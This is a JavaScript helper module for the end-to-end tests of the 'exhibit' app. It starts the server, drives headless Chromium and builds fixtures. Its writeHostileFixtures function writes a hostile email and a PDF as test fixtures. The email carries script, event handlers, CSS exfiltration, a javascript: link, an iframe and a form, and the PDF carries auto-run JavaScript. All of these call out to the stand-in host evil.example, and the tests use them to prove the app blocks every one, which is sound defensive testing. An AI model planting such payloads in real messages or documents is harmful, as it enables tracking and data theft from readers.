// Shared helpers for the end-to-end suites: find the binaries, start `exhibit serve`, build
// fixtures. Everything runs on 127.0.0.1; nothing here reaches the network.
import { spawn, execFileSync } from 'node:child_process';
import { createInterface } from 'node:readline';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

export const E2E = path.dirname(fileURLToPath(import.meta.url));
export const ROOT = path.dirname(E2E);
export const CORPUS = process.env.EXHIBIT_CORPUS ?? path.join(ROOT, '..', 'shared', 'corpus');
export const SHOTS = path.join(E2E, 'screenshots');
/** Where every suite's fixtures and matters live (see `workDir`). */
export const WORK = path.join(E2E, '.work');
const TARGET = process.env.CARGO_TARGET_DIR ?? path.join(ROOT, 'target');
export const EXHIBIT = process.env.EXHIBIT_BIN ?? path.join(TARGET, 'debug', 'exhibit');
export const DESKTOP = process.env.EXHIBIT_DESKTOP_BIN ?? path.join(TARGET, 'debug', 'exhibit-desktop');

/**
 * A whole suite's reason to skip, for `describe(…, { skip })`: also written to the skip log that
 * `make test` prints in its summary (node's own report says only "skipped 1", not why).
 * Returns the reason, or false when there is none.
 */
export function skipSuite(suite, reason) {
  if (!reason) return false;
  const log = process.env.EXHIBIT_SKIP_LOG ?? path.join(TARGET, 'test-skips.log');
  try {
    fs.appendFileSync(log, `e2e ${suite}\t(whole suite)\t${String(reason).replace(/[\t\n]/g, ' ')}\n`);
  } catch {
    /* the log is a courtesy: the suite's own report still says it skipped */
  }
  console.log(`SKIPPED ${suite}: ${reason}`);
  return reason;
}

export function workDir(name) {
  const base = WORK;
  // Earlier runs' folders for this suite go; each run starts from nothing.
  for (const old of fs.existsSync(base) ? fs.readdirSync(base) : []) {
    if (old.startsWith(`${name}-`)) fs.rmSync(path.join(base, old), { recursive: true, force: true });
  }
  const dir = path.join(base, `${name}-${process.pid}`);
  fs.mkdirSync(dir, { recursive: true });
  fs.mkdirSync(SHOTS, { recursive: true });
  return dir;
}

export function exhibit(...args) {
  return execFileSync(EXHIBIT, args, { encoding: 'utf8' });
}

/**
 * Starts `exhibit serve` and resolves once it has printed its URL. `stop()` kills it and
 * resolves when it has exited. `timeoutMs`: how long it may take to start (a million-item
 * matter opens slower than a test's). `allow`: the folders the browser may create matters in
 * and ingest from (`--allow`); by default every suite's work folder and the corpus.
 *
 * `url` is the address to open (`http://127.0.0.1:PORT/#token=…`: the token only in the
 * fragment, which the browser never sends); `token` is for calling the API directly.
 */
export function serve(matter, { timeoutMs = 15000, allow = defaultAllow() } = {}) {
  const args = [
    ...(matter ? ['--matter', matter] : []),
    'serve', '--port', '0', '--ui', path.join(ROOT, 'ui', 'dist'),
    ...allow.flatMap((dir) => ['--allow', dir]),
  ];
  const proc = spawn(EXHIBIT, args, { stdio: ['ignore', 'pipe', 'inherit'] });
  const exited = new Promise((r) => proc.once('exit', r));
  return new Promise((resolve, reject) => {
    const rl = createInterface({ input: proc.stdout });
    const timer = setTimeout(() => reject(new Error(`exhibit serve did not start in ${timeoutMs / 1000} s`)), timeoutMs);
    rl.once('line', (line) => {
      clearTimeout(timer);
      const url = line.trim().split(' ').pop();
      const u = new URL(url);
      const stop = async () => {
        proc.kill();
        await exited;
      };
      const token = new URLSearchParams(u.hash.slice(1)).get('token');
      resolve({ proc, url, origin: u.origin, port: Number(u.port), token, stop });
    });
    proc.once('exit', (code) => reject(new Error(`exhibit serve exited with ${code}`)));
  });
}

function defaultAllow() {
  fs.mkdirSync(WORK, { recursive: true });
  return [WORK, ...(fs.existsSync(CORPUS) ? [CORPUS] : [])];
}

/** Calls the API directly (for checking what the UI did). */
export async function rpc(server, method, params = {}) {
  const r = await fetch(`${server.origin}/api/rpc`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-exhibit-token': server.token },
    body: JSON.stringify({ method, params }),
  });
  const body = await r.json();
  if (!r.ok) throw new Error(`${method}: ${body.code}: ${body.message}`);
  return body;
}

/**
 * A hostile HTML email: inline script, event handlers, a remote tracking image, a javascript:
 * link, CSS exfiltration through url(), a meta refresh, an iframe and a form. Every trick tries
 * to reach evil.example, so "no request left 127.0.0.1" proves none of them ran or loaded.
 */
export function writeHostileFixtures(dir) {
  fs.mkdirSync(dir, { recursive: true });
  const html = `<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<style>body { background: url(http://evil.example/css-bg); } @import url(http://evil.example/css-import);
@font-face { font-family: x; src: url(http://evil.example/font); }</style>
<script>fetch('http://evil.example/script'); parent.postMessage('pwned', '*'); window.top.pwned = 1;</script>
</head><body onload="fetch('http://evil.example/onload')">
<h1>Quarterly hostile review</h1>
<p>Zanzibar pipeline memo: the tracking pixel and scripts in this message must not run.</p>
<img src="http://evil.example/tracker.gif" width="1" height="1" onerror="fetch('http://evil.example/onerror')">
<img src="x" onerror="fetch('http://evil.example/onerror2')">
<div style="background-image: url('http://evil.example/inline-style')">Styled paragraph</div>
<a id="jslink" href="javascript:fetch('http://evil.example/jslink')">Click to claim your prize</a>
<a id="extlink" href="http://evil.example/phish">Plain external link</a>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/form"><input name="q" value="secret"><button>Send</button></form>
<svg><script>fetch('http://evil.example/svg')</script><image href="http://evil.example/svg-image"/></svg>
<object data="http://evil.example/object"></object>
</body></html>`;
  const eml = [
    'From: Mallory <mallory@evil.example>',
    'To: Reviewer <reviewer@firm.example>',
    'Subject: Zanzibar hostile fixture',
    'Date: Mon, 04 Jun 2001 10:00:00 +0000',
    'Message-ID: <hostile-1@evil.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary="b1"',
    '',
    '--b1',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Zanzibar pipeline memo (plain part).',
    '--b1',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '--b1--',
    '',
  ].join('\r\n');
  fs.writeFileSync(path.join(dir, 'hostile.eml'), eml);
  fs.writeFileSync(path.join(dir, 'hostile-js.pdf'), pdfWithJavaScript());
}

/** A one-page PDF whose OpenAction runs JavaScript that would call out, if anything ran it. */
function pdfWithJavaScript() {
  const stream = 'BT /F1 24 Tf 72 700 Td (Zanzibar PDF with JavaScript) Tj ET';
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> /AA << /O 5 0 R >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/pdf-js', true\\); this.submitForm\\('http://evil.example/pdf-form'\\);) >>",
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  return pdfFile(objs);
}

/** A PDF file (a latin1 string) made of `objs`, numbered from 1 with object 1 the catalog;
 *  `trailer` adds entries to the trailer dictionary (e.g. `/Info 8 0 R`). */
export function pdfFile(objs, trailer = '') {
  let out = '%PDF-1.4\n';
  const offsets = [];
  objs.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R${trailer ? ' ' + trailer : ''} >>\nstartxref\n${xref}\n%%EOF\n`;
  return out;
}

export const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';

/** A wait the suites leave without a timeout of their own ends after this, failing the test
 * that waited, instead of holding a CI run until its limit. */
export const DEFAULT_WAIT_MS = 60_000;

/** Debian's Chromium, headless, with everything that would reach out on its own switched off.
 * Its contexts wait at most `DEFAULT_WAIT_MS` unless a call says otherwise. */
export async function launchChromium() {
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
  });
  const newContext = browser.newContext.bind(browser);
  browser.newContext = async (options) => {
    const context = await newContext(options);
    context.setDefaultTimeout(DEFAULT_WAIT_MS);
    return context;
  };
  return browser;
}

/** The path of a command on PATH, or ''. */
export function which(cmd) {
  try {
    return execFileSync('sh', ['-c', `command -v ${cmd}`], { encoding: 'utf8' }).trim();
  } catch {
    return '';
  }
}

/** tauri-driver and the WebKit WebDriver it drives the desktop app through. */
export const TAURI_DRIVER = process.env.TAURI_DRIVER ?? (which('tauri-driver') || path.join(process.env.HOME ?? '', '.cargo', 'bin', 'tauri-driver'));
export const NATIVE = process.env.WEBKIT_DRIVER ?? (which('WebKitWebDriver') || '/usr/bin/WebKitWebDriver');

/** A TCP port free on 127.0.0.1 right now. */
export function freePort() {
  return new Promise((resolve) => {
    const s = net.createServer();
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address();
      s.close(() => resolve(port));
    });
  });
}

/** Resolves once something listens on 127.0.0.1:`port`. */
export async function waitPort(port, ms = 20_000) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    const ok = await new Promise((r) => {
      const c = net.connect(port, '127.0.0.1', () => (c.end(), r(true)));
      c.on('error', () => r(false));
    });
    if (ok) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`port ${port} did not open`);
}

/** Drops the OS page cache (needs root), for cold-start figures; says whether it could. */
export function dropCaches() {
  try {
    execFileSync('sync');
    fs.writeFileSync('/proc/sys/vm/drop_caches', '3');
    return true;
  } catch {
    return false;
  }
}
